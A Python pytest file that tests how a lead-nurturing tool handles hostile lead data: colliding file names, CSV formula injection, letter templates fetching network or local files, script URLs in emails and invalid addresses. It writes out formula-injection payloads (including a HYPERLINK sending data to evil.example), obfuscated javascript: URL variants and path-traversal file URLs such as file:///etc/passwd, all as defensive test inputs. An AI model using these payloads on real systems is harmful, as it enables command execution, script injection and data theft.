"""Lead data written to hurt: addresses that collide once made into file names, formulas
in CSV cells, URLs that make letters fetch from the network or embed local files,
`javascript:` links, addresses no server takes; and output folders that are not folders.

Everything runs for real: the CLI on SQLite and PostgreSQL, WeasyPrint, an HTTP server on
loopback that must see nothing."""

from __future__ import annotations

import base64
import csv
import io
import os
import re
import subprocess
import sys
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage
from html import unescape
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from conftest import Dripper, free_port
from lxml import html as lxml_html

from tests.support.campaigns import ACME_SENDER
from tests.support.net import QuietHandler

T0 = datetime(2026, 3, 2, 14, 0, tzinfo=UTC)  # a Monday, 08:00 in Chicago
CAMPAIGN = "hostile"
HEADER = "email,first_name,last_name,company,stage,address_line1,city,region,postal_code,country"


def iso(t: datetime) -> str:
    return t.isoformat()


def write_campaign(project: Path, *, name: str = CAMPAIGN, steps: str = "") -> None:
    (project / "campaigns.yaml").write_text(f"""
{ACME_SENDER}campaigns:
  {name!r}:
    stages:
      supplier_research:
{steps}
""")


EMAIL_STEP = """        - {id: thanks, after: 0d, channel: email, subject: "Hello", template: mail/thanks.html}
"""
LETTER_STEP = """        - {id: letter-1, after: 0d, channel: letter, template: letters/follow_up.html}
"""
CALL_STEP = """        - {id: call-1, after: 0d, channel: call, template: letters/call.html}
"""


def address_row(email: str, first: str = "Ann", last: str = "Lee", company: str = "") -> str:
    return f"{email},{first},{last},{company},supplier_research,1 Main St,Springfield,IL,62701,US"


def import_rows(dripper: Dripper, rows: list[str], header: str = HEADER, ok: bool | int = True) -> Any:
    path = dripper.root / "leads.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        handle.write("\n".join([header, *rows]) + "\n")
    return dripper("leads", "import", "leads.csv", "--at", iso(T0), ok=ok)


def recipient(path: Path) -> str:
    return str(message_from_bytes(path.read_bytes(), policy=policy.default)["To"])


# --- 4. distinct leads never share a file -----------------------------------------------------
# Each pair is one file name today once `/`, `%`, `=`, `?` become `-`.
COLLIDING = ["slash/.%2f@t.example", "slash-.-2f@t.example", "a=b@t.example", "a?b@t.example", "a-b@t.example"]


def test_leads_whose_safe_names_collide_get_an_outbox_file_each(dripper: Dripper) -> None:
    write_campaign(dripper.root, steps=EMAIL_STEP)
    import_rows(dripper, [address_row(e) for e in COLLIDING])
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == len(COLLIDING)
    files = sorted(Path("outbox").glob("*.eml"))
    assert len(files) == len(COLLIDING)
    assert sorted(recipient(f).rpartition("<")[2].rstrip(">") for f in files) == sorted(COLLIDING)
    for path in files:  # TOUCH-ID_CAMPAIGN_STEP_LEAD: unique by its id, readable by the rest
        touch_id, campaign, step, lead = path.stem.split("_", 3)
        assert touch_id.isdigit() and (campaign, step) == (CAMPAIGN, "thanks")
        assert lead == recipient(path).rpartition("<")[2].rstrip(">").replace("/", "-").replace("%", "-").replace(
            "=", "-"
        ).replace("?", "-")


def test_a_resend_rewrites_the_touchs_own_file(dripper: Dripper) -> None:
    """The file outbox is idempotent: the same touch sent again lands in the same file."""
    from sqlalchemy import update

    from dripper.store import open_store
    from dripper.store.tables import touches

    write_campaign(dripper.root, steps=EMAIL_STEP)
    import_rows(dripper, [address_row(e) for e in COLLIDING[:2]])
    dripper("tick", "--at", iso(T0 + timedelta(hours=1)))
    first = {p.name: p.read_bytes() for p in Path("outbox").glob("*.eml")}
    assert len(first) == 2
    store = open_store(dripper.db_url)
    try:
        with store.begin() as conn:  # as a retry would: planned again, due now
            conn.execute(update(touches).values(state="planned", due_at=T0 + timedelta(hours=2)))
    finally:
        store.dispose()
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=2)), "--json")["sent"] == 2
    again = {p.name: p.read_bytes() for p in Path("outbox").glob("*.eml")}
    assert set(again) == set(first)  # the same two files, no third
    assert all(recipient(Path("outbox") / name) for name in again)


def test_each_colliding_lead_gets_its_own_letter_in_the_batch(dripper: Dripper) -> None:
    (dripper.root / "templates" / "letters" / "named.html").write_text(
        "<!doctype html><html><body><div class='letterhead'>ACME</div>"
        "<p>Letter for {{ lead.first_name }}</p></body></html>"
    )
    write_campaign(dripper.root, steps=LETTER_STEP.replace("letters/follow_up.html", "letters/named.html"))
    names = ["Ulla", "Vera", "Wanda", "Xena", "Yara"]
    import_rows(dripper, [address_row(e, first=n) for e, n in zip(COLLIDING, names, strict=False)])
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == len(COLLIDING)
    with open(Path("letters") / "2026-03-02" / "manifest.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(r["email"] for r in rows) == sorted(COLLIDING)
    assert len({r["file"] for r in rows}) == len(COLLIDING)  # today: one PDF listed for several leads
    for row in rows:
        text = subprocess.run(
            ["pdftotext", str(Path("letters") / row["file"]), "-"], check=True, capture_output=True, text=True
        ).stdout
        assert f"Letter for {names[COLLIDING.index(row['email'])]}" in text  # each lead's own letter


def test_the_longest_address_makes_a_file_name_well_under_the_limit(dripper: Dripper) -> None:
    """A 64-octet local part, a 189-octet domain (254 in all), a long campaign and step:
    today `File name too long`, and the touch is retried for ever."""
    domain = f"{'a' * 63}.{'b' * 63}.{'c' * 53}.example"
    email, twin = f"{'l' * 64}@{domain}", f"{'l' * 63}m@{domain}"  # alike in the part a file name keeps
    assert len(email) == 254
    campaign = "campaign-" + "c" * 80
    write_campaign(
        dripper.root,
        name=campaign,
        steps=(EMAIL_STEP + LETTER_STEP)
        .replace("id: thanks", f"id: {'s' * 90}")
        .replace("id: letter-1", f"id: {'t' * 90}"),
    )
    import_rows(dripper, [address_row(email), address_row(twin)])
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == 4
    files = list(Path("outbox").glob("*.eml")) + list(Path("letters").glob("*.pdf"))
    assert len(files) == 4
    for path in files:  # 48 characters a part, and the touch id
        assert len(path.name.encode()) < 170  # room for `.tmp` and any prefix a tool adds


def test_touch_and_safe_names_are_distinct_bounded_and_readable() -> None:
    from dripper.channels.compose import PART_CHARS, safe_name, touch_name

    assert touch_name(42, "lit", "thanks", "ada@lovelace.example") == "42_lit_thanks_ada@lovelace.example"
    assert touch_name(1, "a/b", "c", "d") != touch_name(2, "a/b", "c", "d")
    # Plain parts read as before; any other is followed by a digest of the exact parts.
    assert safe_name("lit", "thanks", "ada@lovelace.example") == "lit_thanks_ada@lovelace.example"
    tricky = [
        ("a/b@t.example",),
        ("a-b@t.example",),
        ("a\0b@t.example",),
        ("a_b@t.example",),
        ("A-b@t.example",),
        ("a", "b_c"),
        ("a_b", "c"),
        ("x" * 300,),
        ("x" * 300 + "y",),
        ("..",),
        ("-x",),
        ("",),
    ]
    names = [safe_name(*parts) for parts in tricky]
    assert len(set(names)) == len(names)
    for name in names:
        assert "/" not in name and "\0" not in name and not name.startswith((".", "-"))
        assert len(name) <= 2 * PART_CHARS + 2 + 16
    # A forwarded reply (inbound/notify.py) is named after the reply's Message-ID, which
    # the sender of the reply chooses: a long or hostile one still makes one short name.
    forward = safe_name("reply-from", "ada@lovelace.example", "../../" + "m" * 900 + "@evil.example")
    assert len(forward) < 200 and "/" not in forward and forward.startswith("reply-from_ada@lovelace.example_")
    assert safe_name("reply-from", "a@x.example", "") != safe_name("reply-from", "a@x.example", "-")


def test_previews_of_colliding_leads_are_two_files(dripper: Dripper) -> None:
    write_campaign(dripper.root, steps=EMAIL_STEP)
    import_rows(dripper, [address_row(e) for e in COLLIDING[:2]])
    paths = [
        dripper(
            "preview", CAMPAIGN, "thanks", "--lead", e, "--open", "--at", iso(T0), DRIPPER_NO_BROWSER="1"
        ).stdout.strip()
        for e in COLLIDING[:2]
    ]
    assert paths[0] != paths[1]
    assert all(Path(p).parent == Path("previews") and Path(p).is_file() for p in paths)
    assert paths[1] == f"previews/{CAMPAIGN}_thanks_slash-.-2f@t.example.html"  # a plain name stays as it was


# --- 5. CSV cells that a spreadsheet would run --------------------------------------------------
HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "=cmd|' /C calc'!A0",
    "phone": "+1+cmd|' /C calc'!A0",
    "owner": "-2+3+cmd|' /C calc'!A0",
    "note": "\t=1+1",
}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str, *expected: str) -> None:
    """No cell would start a formula; the hostile values are there, quoted with a `'`."""
    cells = _cells(text)
    live = [
        c for c in cells if c.lstrip(" ").startswith(FORMULA_START) and not c.replace(".", "", 1).lstrip("+-").isdigit()
    ]
    assert not live, live
    for value in expected:
        assert "'" + value in cells or any(c.startswith("'" + value) for c in cells), (value, cells)


def test_every_csv_dripper_writes_neutralises_formulas(dripper: Dripper) -> None:
    (dripper.root / "templates" / "letters" / "call.html").write_text("<p>Call {{ lead.first_name }}</p>")
    campaign = "=cmd|' /C calc'!A0"  # a campaign name is written to the report's CSV
    write_campaign(dripper.root, name=campaign, steps=EMAIL_STEP + LETTER_STEP + CALL_STEP)
    header = HEADER + ",phone,owner"
    row = [
        "evil@t.example",
        HOSTILE["first_name"],
        HOSTILE["last_name"],
        HOSTILE["company"],
        "supplier_research",
        "1 Main St",
        "Springfield",
        "IL",
        "62701",
        "US",
        HOSTILE["phone"],
        HOSTILE["owner"],
    ]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="").writerow(row)
    import_rows(dripper, [buffer.getvalue()], header=header)
    dripper("tick", "--at", iso(T0 + timedelta(hours=1)))
    dripper(
        "event",
        "evil@t.example",
        "called",
        "--outcome",
        "reached",
        "--note",
        HOSTILE["note"],
        "--at",
        iso(T0 + timedelta(hours=2)),
    )

    calls_file = (Path("calls") / "2026-03-02.csv").read_text(encoding="utf-8")
    calls_stdout = dripper("calls", "--date", "2026-03-02", "--csv").stdout
    for text in (calls_file, calls_stdout):
        assert_no_formula(
            text, HOSTILE["first_name"].split(" ")[0], HOSTILE["company"], HOSTILE["phone"], HOSTILE["owner"]
        )
    assert "'\t=1+1" in _cells(calls_stdout)  # the note, recorded after the file was written
    manifest = (Path("letters") / "2026-03-02" / "manifest.csv").read_text(encoding="utf-8")
    assert_no_formula(manifest, campaign)
    assert any(c.startswith("'=HYPERLINK") for c in _cells(manifest))  # the name column
    report = dripper("report", "--csv").stdout
    assert_no_formula(report, campaign)


def test_the_report_csv_neutralises_every_text_cell() -> None:
    from dripper.reports import formats as report_formats

    step = {
        "enrolled": -1,
        **dict.fromkeys(report_formats.STATES, 0),
        "total": 0,
        **dict.fromkeys(report_formats.FIGURES, 0),
        "rates": dict.fromkeys(report_formats.RATES.values()),
        "reasons": {"-1+cmd|' /C calc'!A0": 2},
    }
    text = report_formats.to_csv({"campaigns": {"@evil": {"steps": {"+step": step}}}})
    assert_no_formula(text, "@evil", "+step")
    assert "-1" in _cells(text)  # a number stays a number


def test_csv_cells_follow_the_owasp_rule() -> None:
    from dripper.csvsafe import cell

    for value in ("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1", "=", "-"):
        assert cell(value) == "'" + value
    for value in ("Ada", "", "-3", "+4930123456", "1.5", "a=b", "x@y", 7, -7, 1.5, None):
        assert cell(value) == value


# --- 5. letters fetch nothing but templates/ files and data: URLs -------------------------------
@pytest.fixture
def http_server() -> Iterator[tuple[str, list[str]]]:
    """A real HTTP server on loopback; the list holds every path requested."""
    seen: list[str] = []

    class Handler(QuietHandler):
        def do_GET(self) -> None:  # the stdlib's name
            seen.append(self.path)
            body = b"<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><text y='9'>REMOTE</text></svg>"
            self.answer(200, "image/svg+xml", body)

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def svg(text: str) -> str:
    return (
        f"<svg xmlns='http://www.w3.org/2000/svg' width='200' height='20'>"
        f"<text x='0' y='15' font-size='12'>{text}</text></svg>"
    )


LETTER_WITH_URLS = """<!doctype html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="{{ lead.attrs.css | default('') }}"></head><body>
<div class="letterhead">ACME</div>
<p>Dear {{ lead.first_name }},</p>
<img src="{{ lead.attrs.logo | default('') }}"><img src="{{ lead.attrs.local | default('') }}"><img src="{{ lead.attrs.up | default('') }}">
<img src="{{ lead.attrs.linked | default('') }}"><img src="letters/inside.svg"><img src="{{ data_url }}">
<a rel="attachment" href="{{ lead.attrs.doc | default('') }}">the file</a>
</body></html>"""


def test_letters_fetch_nothing_from_the_network_or_outside_templates(
    dripper: Dripper, http_server: tuple[str, list[str]], tmp_path: Path
) -> None:
    from pypdf import PdfReader

    base, seen = http_server
    templates = dripper.root / "templates"
    data_url = "data:image/svg+xml;base64," + base64.b64encode(svg("FROM-DATA-URL").encode()).decode()
    (templates / "letters" / "urls.html").write_text(LETTER_WITH_URLS.replace("{{ data_url }}", data_url))
    (templates / "letters" / "inside.svg").write_text(svg("INSIDE-TEMPLATES"))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.svg").write_text(svg("SECRET-OUTSIDE"))
    (outside / "secret.txt").write_text("SECRET-ATTACHMENT")
    (templates / "letters" / "link.svg").symlink_to(outside / "secret.svg")  # a link out of templates/
    write_campaign(dripper.root, steps=LETTER_STEP.replace("letters/follow_up.html", "letters/urls.html"))
    header = HEADER + ",css,logo,local,up,linked,doc"
    attrs = [
        f"{base}/style.css",
        f"{base}/logo.svg",
        (outside / "secret.svg").as_uri(),
        os.path.relpath(outside / "secret.svg", templates),
        "letters/link.svg",
        (outside / "secret.txt").as_uri(),
    ]
    import_rows(dripper, [address_row("ann@t.example") + "," + ",".join(attrs)], header=header)
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == 1
    [pdf] = Path("letters").glob("*.pdf")
    assert seen == []  # no request reached the server
    text = subprocess.run(["pdftotext", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    assert "INSIDE-TEMPLATES" in text and "FROM-DATA-URL" in text  # a file under templates/, a data: URL
    assert "SECRET-OUTSIDE" not in text and "REMOTE" not in text
    reader = PdfReader(pdf)
    assert not reader.attachments
    annotations = [a.get_object() for page in reader.pages for a in page.get("/Annots", [])]
    assert not [a for a in annotations if a.get("/Subtype") == "/FileAttachment"]
    assert b"SECRET-ATTACHMENT" not in pdf.read_bytes()


def test_the_url_fetcher_allows_files_under_templates_only(tmp_path: Path) -> None:
    from dripper.channels.letters.layout import template_file

    root = (tmp_path / "templates").resolve()
    (root / "letters").mkdir(parents=True)
    inside = root / "letters" / "sig.svg"
    inside.write_text(svg("x"))
    (tmp_path / "secret.svg").write_text(svg("y"))
    (root / "letters" / "out.svg").symlink_to(tmp_path / "secret.svg")
    (root / "loop.svg").symlink_to(root / "loop.svg")
    assert template_file(inside.as_uri(), root) == inside
    assert template_file(inside.as_uri() + "?v=1", root) == inside
    assert template_file("file://localhost" + str(inside), root) == inside
    for url in (
        (root / "letters" / ".." / ".." / "secret.svg").as_uri(),
        (root / "letters" / "out.svg").as_uri(),
        (tmp_path / "secret.svg").as_uri(),
        "file:///etc/passwd",
        "file://evil.example" + str(inside),
        (root / "letters").as_uri(),
        (root / "loop.svg").as_uri(),
        (root / "missing.svg").as_uri(),
        "file:///" + str(root).lstrip("/") + "/letters/%2e%2e/%2e%2e/secret.svg",
    ):
        assert template_file(url, root) is None, url
    assert template_file(inside.as_uri(), None) is None


def test_the_shipped_letters_still_render_their_signature(caplog: pytest.LogCaptureFixture) -> None:
    """The shipped letters take a signature SVG from templates/: allowed, and drawn."""
    from dripper.channels.letters import layout as letters

    root = Path(__file__).resolve().parent.parent / "templates"
    html = (root / "letters" / "signatures" / "marcus-hale.html").read_text()
    page = f"<!doctype html><html><body><p>Yours,</p>{html}</body></html>"
    with caplog.at_level("WARNING"):
        rendered = letters.render_letter(page, root)
    assert rendered.pdf.startswith(b"%PDF")
    assert not [r for r in caplog.records if "marcus-hale.svg" in r.getMessage()], caplog.text
    with caplog.at_level("WARNING"):  # the same letter with no templates folder: the signature is refused
        letters.render_letter(page, None)
    assert [r for r in caplog.records if "marcus-hale.svg" in r.getMessage()]


# --- 5. no script URL from lead data reaches an e-mail ------------------------------------------
SCRIPT_URLS = [
    "javascript:alert(document.domain)",
    "  JavaScript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "livescript:x",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
]  # a line break in a field is refused at import


def browser_scheme(href: str) -> str:
    """The scheme of a URL as a browser reads it (tabs and line breaks dropped, leading
    blanks and controls ignored)."""
    url = unescape(href).replace("\t", "").replace("\n", "").replace("\r", "").lstrip("".join(map(chr, range(33))))
    scheme, colon, _ = url.partition(":")
    return scheme.lower() if colon and scheme.isalpha() else ""


def test_script_urls_from_lead_data_never_reach_an_email_link(dripper: Dripper) -> None:
    (dripper.root / "templates" / "mail" / "link.html").write_text(
        "<p>Hello {{ lead.first_name }}</p><p><a href=\"{{ lead.attrs.website | default('') }}\">your site</a> "
        "<a href={{ lead.attrs.website | default('') }}>unquoted</a> <img src=\"{{ lead.attrs.website | default('') }}\" alt=\"logo\"></p>"
        "<p><a href=\"https://acme.example/?from={{ lead.attrs.website | default('') | urlencode }}\">ours</a></p>"
    )
    write_campaign(dripper.root, steps=EMAIL_STEP.replace("mail/thanks.html", "mail/link.html"))
    rows = []
    for i, url in enumerate([*SCRIPT_URLS, "https://ok.example/path"]):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="").writerow([f"lead{i}@t.example", "Ann", "supplier_research", url])
        rows.append(buffer.getvalue())
    import_rows(dripper, rows, header="email,first_name,stage,website")
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == len(rows)
    for path in Path("outbox").glob("*.eml"):
        message = message_from_bytes(path.read_bytes(), policy=policy.default)
        assert isinstance(message, EmailMessage)
        html = message.get_body(("html",)).get_content()  # type: ignore[union-attr]
        doc = lxml_html.fromstring(html)
        urls = [
            v
            for element in doc.iter()
            if isinstance(element.tag, str)
            for k, v in element.attrib.items()
            if k in ("href", "src")
        ]
        assert urls and not [
            u for u in urls if browser_scheme(u) in ("javascript", "vbscript", "livescript", "data")
        ], (path.name, urls)
        text = message.get_body(("plain",)).get_content()  # type: ignore[union-attr]
        links = re.findall(r"\((\S+?)\)", text)  # the text part writes a link as `label (url)`
        assert links and not [
            u for u in links if browser_scheme(u) in ("javascript", "vbscript", "livescript", "data")
        ], (path.name, links)
        if f"lead{len(SCRIPT_URLS)}@" in str(message["To"]):  # a real link stays as it is
            assert "https://ok.example/path" in urls and "https://ok.example/path" in links


@pytest.mark.parametrize(
    "html",
    [
        '<a href="javascript:alert(1)">x</a>',
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href=javascript:alert(1)>x</a>",
        '<a href="  javascript:alert(1)">x</a>',
        '<a href="\x01javascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="java\nscript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href="java&Tab;script:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="javascript&colon;alert(1)">x</a>',
        '<a href="javascript&#58alert(1)">x</a>',
        '<a href="&#32;javascript:alert(1)">x</a>',
        '<a HREF = "vbscript:msgbox(1)">x</a>',
        '<a\nhref="data:text/html;base64,PHNjcmlwdD4=">x</a>',
        '<img src="data:text/html,<script>">',
        '<form action="javascript:alert(1)"><button formaction="jscript:x">',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<a/href="javascript:alert(1)">x</a>',
    ],
)
def test_script_urls_are_removed_however_they_are_written(html: str) -> None:
    from dripper.campaign.templates import without_script_urls

    cleaned = without_script_urls(html)
    doc = lxml_html.fragment_fromstring(cleaned, create_parent="div")
    urls = [
        v
        for element in doc.iter()
        if isinstance(element.tag, str)
        for k, v in element.attrib.items()
        if k in ("href", "src", "action", "formaction", "{http://www.w3.org/1999/xlink}href", "xlink:href")
    ]
    assert urls and all(browser_scheme(u) == "" for u in urls), (html, cleaned)


@pytest.mark.parametrize(
    "html",
    [
        '<a href="https://x.example/?q=javascript:1">x</a>',
        '<a href="mailto:sales@acme.example">x</a>',
        '<a href="page.html?next=javascript:1">x</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<p style="margin:0; display:block" title="data: a b">x</p>',
        '<a href="#top">x</a>',
        '<a href="tel:+12175550100">x</a>',
        '<p>javascript: is a scheme; alt="javascript: the good parts"</p>',
        '<img alt="javascript: the good parts" src="cover.png">',
    ],
)
def test_other_urls_and_text_are_left_as_they_are(html: str) -> None:
    from dripper.campaign.templates import without_script_urls

    assert without_script_urls(html) == html


# --- 5. addresses no server takes are refused at import -----------------------------------------
def test_addresses_that_cannot_be_sent_to_are_refused_at_import(dripper: Dripper) -> None:
    write_campaign(dripper.root, steps=EMAIL_STEP)
    rows = [
        "jörg@t.example,Jörg",
        "ok1@t.example,Ok",
        "l" * 65 + "@t.example,Long",
        "a\0b@t.example,Nul",
        "slash/..%2f@t.example,Dots",
        "jane@Müller.de,Jane",
        "x@" + "d" * 250 + ".example,Big",
        "ok2@t.example,Ok",
        '"""quoted""@t.example",Q',
        "x@-bad.example,Host",
    ]
    result = import_rows(dripper, rows, header="email,first_name", ok=2)
    problems = [line for line in result.stderr.splitlines() if line.startswith("leads.csv:")]
    letters = "the part before @ may hold letters, digits, !#$%&'*+/=?^_`{|}~- and single dots between them"
    assert problems == [
        "leads.csv:2: invalid e-mail address 'jörg@t.example': the part before @ is not ASCII (such addresses need "
        + "SMTPUTF8, which dripper does not use)",
        f"leads.csv:4: invalid e-mail address '{'l' * 65}@t.example': the part before @ is 65 characters long; "
        + "at most 64 are allowed",
        "leads.csv:5: email contains a NUL character (byte 0x00)",  # refused before the address is read
        f"leads.csv:6: invalid e-mail address 'slash/..%2f@t.example': {letters}",
        f"leads.csv:8: invalid e-mail address 'x@{'d' * 250}.example': the domain is longer than 253 characters",
        f"leads.csv:10: invalid e-mail address '\"quoted\"@t.example': {letters}",
        "leads.csv:11: invalid e-mail address 'x@-bad.example': the domain '-bad.example' is not a valid host name",
    ]
    assert "3 lead(s) imported" in result.stdout and "7 row(s) skipped" in result.stdout
    # An internationalized domain is kept in its ASCII form, and found by either.
    assert dripper.json("plan", "jane@müller.de", "--json")["lead"]["email"] == "jane@xn--mller-kva.de"
    assert dripper.json("plan", "JANE@xn--mller-kva.de", "--json")["lead"]["email"] == "jane@xn--mller-kva.de"
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == 3
    [jane] = Path("outbox").glob("*jane@xn--mller-kva.de.eml")
    assert recipient(jane) == "Jane <jane@xn--mller-kva.de>"


def test_leads_add_refuses_an_address_with_the_reason(dripper: Dripper) -> None:
    write_campaign(dripper.root, steps=EMAIL_STEP)
    result = dripper("leads", "add", "jörg@t.example", ok=1)
    assert "dripper: invalid e-mail address 'jörg@t.example': the part before @ is not ASCII" in result.stderr
    result = dripper("leads", "add", "l" * 65 + "@t.example", ok=1)
    assert "the part before @ is 65 characters long; at most 64 are allowed" in result.stderr
    assert "jane@xn--strae-oqa.de: added" in dripper("leads", "add", "Jane@Straße.de").stdout  # IDNA 2008: ß stays
    assert "jane@xn--strae-oqa.de: updated" in dripper("leads", "add", "jane@straße.de", "--first-name", "J").stdout


# --- 6. an output folder that is a file -------------------------------------------------------------
@pytest.mark.parametrize(
    "env, blocker, says",
    [
        ({}, "outbox", "outbox (the e-mail outbox; DRIPPER_OUTBOX moves it) exists but is not a folder"),
        ({"DRIPPER_OUTBOX": "mail-out"}, "mail-out", "mail-out (the e-mail outbox; DRIPPER_OUTBOX moves it) exists"),
        ({}, "letters", "letters (letters; DRIPPER_LETTERS moves it) exists but is not a folder"),
        (
            {"DRIPPER_CALLS": "office/calls"},
            "office",
            "office/calls (call lists; DRIPPER_CALLS moves it) cannot be made: office is a file, not a folder",
        ),
    ],
)
def test_an_output_folder_that_is_a_file_stops_the_tick_with_a_clear_error(
    dripper: Dripper, env: dict[str, str], blocker: str, says: str
) -> None:
    (dripper.root / "templates" / "letters" / "call.html").write_text("<p>Call {{ lead.first_name }}</p>")
    write_campaign(dripper.root, steps=EMAIL_STEP + LETTER_STEP + CALL_STEP)
    import_rows(dripper, [address_row("ann@t.example")])
    Path(blocker).write_text("not a folder\n")
    result = dripper("tick", "--at", iso(T0 + timedelta(hours=1)), ok=1, **env)
    assert says in result.stderr and "nothing was sent" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    touches = dripper.json("plan", "ann@t.example", "--json")["touches"]
    assert {t["state"] for t in touches} == {"planned"}  # nothing claimed, nothing lost
    Path(blocker).unlink()
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json", **env)["sent"] == 3


def test_a_folder_for_a_channel_no_campaign_uses_is_not_needed(dripper: Dripper) -> None:
    write_campaign(dripper.root, steps=EMAIL_STEP)
    import_rows(dripper, [address_row("ann@t.example")])
    Path("letters").write_text("the operator's own notes, not dripper's folder\n")
    Path("calls").write_text("the operator's own notes, not dripper's folder\n")
    assert dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json")["sent"] == 1


def test_smtp_needs_no_outbox_folder(dripper: Dripper, smtp_sink: Any) -> None:
    write_campaign(dripper.root, steps=EMAIL_STEP)
    import_rows(dripper, [address_row("ann@t.example")])
    Path("outbox").write_text("a file where the outbox would be; unused with SMTP\n")
    assert (
        dripper.json("tick", "--at", iso(T0 + timedelta(hours=1)), "--json", DRIPPER_SMTP_URL=smtp_sink.url)["sent"]
        == 1
    )


def test_run_refuses_to_start_when_the_outbox_is_a_file(project: Path, sqlite_url: str) -> None:
    write_campaign(project, steps=EMAIL_STEP)
    Path("outbox").write_text("not a folder\n")
    env = {k: v for k, v in os.environ.items() if not k.startswith("DRIPPER_")}
    env.update(DRIPPER_DATABASE_URL=sqlite_url, DRIPPER_SECRET="test-secret", DRIPPER_TICK_INTERVAL="1")
    result = subprocess.run(
        [sys.executable, "-m", "dripper", "run"], env=env, capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 1
    assert "outbox (the e-mail outbox; DRIPPER_OUTBOX moves it) exists but is not a folder" in result.stderr
    assert "Traceback" not in result.stderr
